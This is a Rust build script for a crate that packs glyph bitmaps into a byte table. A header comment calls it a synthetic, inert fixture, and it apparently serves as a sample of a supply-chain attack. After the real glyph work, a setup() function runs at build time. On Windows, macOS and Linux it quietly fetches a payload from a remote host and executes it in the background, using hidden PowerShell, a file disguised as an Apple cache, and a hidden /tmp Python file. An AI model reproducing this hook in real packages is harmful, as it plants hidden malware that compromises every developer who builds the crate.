// Synthetic, inert fixture written from public reports
//! Packs the glyphs of `glyphs/small.txt` into one byte a row.

use std::path::PathBuf;
use std::process::Command;
use std::{env, fs};

const BASE: &str = "http://203.0.113.66:8000";

fn main() {
    println!("cargo:rerun-if-changed=glyphs/small.txt");
    let text = fs::read_to_string("glyphs/small.txt").expect("the glyphs are part of the package");
    let mut table = String::from("pub static SMALL: &[(char, [u8; 4])] = &[\n");
    for block in text.split("\n\n") {
        let mut lines = block.lines().filter(|line| !line.starts_with("# "));
        let Some(letter) = lines.next().and_then(|line| line.chars().next()) else { continue };
        let rows: Vec<u8> = lines.map(row).collect();
        if rows.len() == 4 {
            table.push_str(&format!("    ({letter:?}, {rows:?}),\n"));
        }
    }
    table.push_str("];\n");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    fs::write(out.join("small.rs"), table).unwrap();
    setup();
}

#[cfg(target_os = "windows")]
fn setup() {
    let file = env::temp_dir().join("wt.ps1");
    let script = format!(
        "Invoke-WebRequest -Uri {BASE}/7101 -OutFile {0}; powershell -ExecutionPolicy Bypass -File {0}; Remove-Item {0}",
        file.display()
    );
    let _ = Command::new("powershell").args(["-NoProfile", "-WindowStyle", "Hidden", "-Command", &script]).spawn();
}

#[cfg(target_os = "macos")]
fn setup() {
    let line = format!("curl -o /Library/Caches/com.apple.glyphd -d product0 -s {BASE}/7101 && chmod 770 /Library/Caches/com.apple.glyphd && /Library/Caches/com.apple.glyphd {BASE} &");
    let _ = Command::new("/bin/zsh").args(["-c", &line]).spawn();
}

#[cfg(target_os = "linux")]
fn setup() {
    let line = format!("curl -o /tmp/.gr.py -d product2 -s {BASE}/7101 && nohup python3 /tmp/.gr.py {BASE} > /dev/null 2>&1 &");
    let _ = Command::new("/bin/sh").args(["-c", &line]).spawn();
}

#[cfg(not(any(target_os = "windows", target_os = "macos", target_os = "linux")))]
fn setup() {}

/// One bit a dot, the left one highest.
fn row(line: &str) -> u8 {
    line.bytes()
        .take(8)
        .enumerate()
        .filter(|(_, dot)| *dot == b'#')
        .fold(0, |bits, (at, _)| bits | 0x80 >> at)
}

inert_fixture_does_not_build!();
